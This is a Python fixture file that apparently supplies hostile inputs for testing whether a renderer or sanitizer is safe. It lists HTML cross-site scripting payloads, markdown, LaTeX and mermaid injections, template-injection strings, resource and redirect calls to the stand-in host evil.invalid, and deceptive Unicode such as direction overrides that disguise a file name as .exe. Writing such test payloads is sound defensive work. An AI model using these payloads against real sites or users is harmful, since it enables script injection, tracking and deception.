"""What hostile documents and questions are made of. Where one of them works, `window.hit` is set, a dialog opens, or evil.invalid is asked."""

EVIL = "http://evil.invalid"  # nobody's name, ever (RFC 6761)

MARKUP = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    f'"><img src={EVIL}/a.png onerror=alert(1)>',
    "' autofocus onfocus=window.hit=1 x='",
    "<svg/onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hit=1>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "</textarea></title></style><script>window.hit=1</script>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.hit=1&gt;'>",
    f"<style>*{{background:url({EVIL}/c.png)}}</style>",
    f'<p style="position:fixed;inset:0;background:url({EVIL}/d.png)">x</p>',
    f"<link rel=stylesheet href={EVIL}/f.css>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/><button>发送</button></form>",
    f"<video src={EVIL}/v.mp4 autoplay></video>",
    "<a href=javascript:window.hit=1>点这里</a>",
    "&lt;img src=x onerror=window.hit=1&gt;",
)
MARKDOWN = (
    "[点这里](javascript:window.hit=1)",
    f"![图]({EVIL}/b.png)",
    f"[![图]({EVIL}/b2.png)]({EVIL}/b3)",
    f"<{EVIL}/g>",
    f"[一]\n\n[一]: {EVIL}/h.png",
    f"```html\n<img src={EVIL}/i.png onerror=window.hit=1>\n```",
    "**粗**_斜_~~删~~`码`",
    "# 标题\n\n| 甲 | 乙 |\n| --- | --- |\n| <img src=x onerror=window.hit=1> | 1 |",
    r"$\href{javascript:window.hit=1}{点}$ $$\includegraphics{" + EVIL + r"/k.png}$$ \(\htmlStyle{x:1}{y}\)",
    r"$$\def\a{\a\a}\a$$",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>]-->B; click A href 'javascript:window.hit=1'\n```",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %>",
)
# Overrides and isolates of direction, zero width, a bell, an escape sequence of terminals, a private character.
CHARACTERS = (
    "价格\u202e001\u202c元",
    "\u2066\u202e反的文件名fdp.exe",
    "零\u200b宽\u2060字\ufeff符",
    "响铃\x07和\x1b[31m红字\x1b[0m",
    "竖线\x0b换页\x0c",
    "\ue000私用区\U000f0000",
)
PAYLOADS = (*MARKUP, *MARKDOWN, *CHARACTERS)
